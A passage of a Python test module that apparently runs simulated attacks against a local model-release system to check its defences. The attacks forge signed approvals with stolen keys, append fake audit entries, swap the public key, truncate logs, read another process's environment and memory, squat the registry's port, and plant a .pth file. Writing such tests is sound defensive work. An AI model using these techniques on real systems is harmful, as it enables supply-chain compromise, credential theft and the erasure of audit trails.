        env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    import httpx

    try:
        end = time.monotonic() + 60
        while time.monotonic() < end:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/health", trust_env=False).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.2)
        body = {"name": a.name, "alias": "champion", "version": a.v["blocked"]}
        httpx.post(f"http://127.0.0.1:{port}{API}/registered-models/alias", json=body, trust_env=False).raise_for_status()
        tag = {"name": a.name, "version": a.v["blocked"], "key": "approval", "value": "approved"}
        httpx.post(f"http://127.0.0.1:{port}{API}/model-versions/set-tag", json=tag, trust_env=False).raise_for_status()
    finally:
        os.killpg(server.pid, 15)
        server.wait(20)
    return "champion and approval set"


@attack("the registry's port taken while it restarts, an old release shown", below=True, setting="restart")
def squat(a: Attacker) -> str:
    """Answers like MLflow, from the attacker's process, with what the database held."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    heard: set[str] = set()
    statement = a.known(a.v["old"], "release")
    version = {
        "model_version": {
            "name": a.name,
            "version": a.v["old"],
            "creation_timestamp": 1,
            "tags": [{"key": "release", "value": statement}],
            "aliases": ["champion"],
        }
    }

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.add((self.headers.get("Authorization") or "")[:12])
            body = json.dumps(version if "alias" in self.path else {}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            return

    port = int(a.url.rpartition(":")[2])
    end = time.monotonic() + 20
    while True:
        try:
            server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
            break
        except OSError as error:
            if time.monotonic() > end:
                raise Stopped(f"port: {error.strerror}") from None
            time.sleep(0.002)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    time.sleep(6)
    server.shutdown()
    server.server_close()
    return f"answered {len(heard)} kinds of callers"


@attack("the release key read, a statement for the blocked version signed with it", below=True)
def read_release_key(a: Attacker) -> str:
    key = a.openly(a.data / "keys" / "steward" / "release")
    record = inside(a.known(a.v["good"], "release")) | {
        "version": a.v["blocked"],
        "payload": a.known(a.v["blocked"], "payload"),
        "sequence": 999,
    }
    return a.insist(signed(record, kind_of("release"), key))


@attack("the registry's key read, an approval of the unapproved version signed into the audit", below=True)
def read_registry_key(a: Attacker) -> str:
    from truing.tasks.release.audit import Entry, Mark, read, seal_line

    key = a.openly(a.data / "keys" / "registry" / "registry")
    path = a.data / "guard" / "audit.jsonl"
    lines = list(read(path))
    last = Mark(n=lines[-1].entry.n, digest=lines[-1].digest)
    record = inside(a.known(a.v["good"], "approval.stamp")) | {
        "version": a.v["pending"],
        "verdict": hashlib.sha256(base64.b64decode(json.loads(a.known(a.v["pending"], "verdict"))["payload"])).hexdigest(),
        "at": time.time(),
    }
    envelope = signed(record, kind_of("approval"), key)
    entry = Entry(
        n=last.n + 1, at=time.time(), user="approver2", act="decision", target=f"{a.name}/{a.v['pending']}", outcome="done",
        reason="", previous=last.digest, facts={"problem": a.name, "version": a.v["pending"], "envelope": envelope},
    )  # fmt: skip
    import msgspec

    with path.open("ab") as file:
        file.write(msgspec.json.encode(seal_line(entry, key)) + b"\n")
    return "appended"


@attack("the second approver's password read and used", below=True)
def read_password(a: Attacker) -> str:
    a.passwords["approver2"] = a.openly(a.data / "keys" / "approver2" / "password").decode()
    return a.tag("approver2", a.v["pending"], "approval", "approved")


@attack("public release key swapped for the attacker's", below=True, setting="replica")
def swap_public_key(a: Attacker) -> str:
    from truing.tasks.seal import new_key, public_key

    key = new_key()
    a.write(a.data / "keys" / "public" / "release.pub", public_key(key))
    record = inside(a.known(a.v["good"], "release")) | {
        "version": a.v["blocked"],
        "payload": a.known(a.v["blocked"], "payload"),
        "sequence": 999,
    }
    return a.insist(signed(record, kind_of("release"), key))


@attack("gateway's cache: floor lowered, other bytes put in", below=True, setting="restart-gateway")
def gateway_cache(a: Attacker) -> str:
    path = a.data / "gateway" / a.name / "state.json"
    state = json.loads(a.openly(path))
    old = a.known(a.v["old"], "release")
    state |= {"floor": 1, "version": a.v["old"], "envelope": old, "payload": inside(old)["payload"]}
    state["statement"] = hashlib.sha256(base64.b64decode(json.loads(old)["payload"])).hexdigest()
    a.write(path, json.dumps(state).encode())
    return a.sql(a.set_alias(a.v["old"]))


@attack("policy file made toothless on disk", below=True)
def policy_file(a: Attacker) -> str:
    return a.write(Path(a.context["problems"]) / a.name / "policy.toml", b"version = 9\n")


@attack("audit: last records cut off", below=True)
def audit_cut(a: Attacker) -> str:
    path = a.data / "guard" / "audit.jsonl"
    lines = a.openly(path).splitlines(keepends=True)
    return a.write(path, b"".join(lines[:-5]))


@attack("steward's memory and environment read", below=True)
def steward_memory(a: Attacker) -> str:
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            command = (process / "cmdline").read_bytes()
        except OSError:
            continue
        if b"truing.flows.steward" in command:
            try:
                found.append(str(len((process / "environ").read_bytes())))
                with (process / "mem").open("rb"):
                    found.append("mem")
            except OSError as error:
                raise Stopped(f"{process.name}: {error.strerror}") from None
    if not found:
        raise RuntimeError("no steward runs")
    return " ".join(found)


@attack("code of the steward replaced by a module on its path", below=True)
def plant_code(a: Attacker) -> str:
    import sysconfig

    return a.write(Path(sysconfig.get_path("purelib")) / "truing_evil.pth", b"# planted\n")


def main() -> int:
    found = ATTACKS[sys.argv[1]]
    attacker = Attacker(json.load(sys.stdin))
    try:
        did, told = True, found.act(attacker)
    except Stopped as stopped:
        did, told = False, str(stopped)
    print(json.dumps({"did": did, "told": told}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
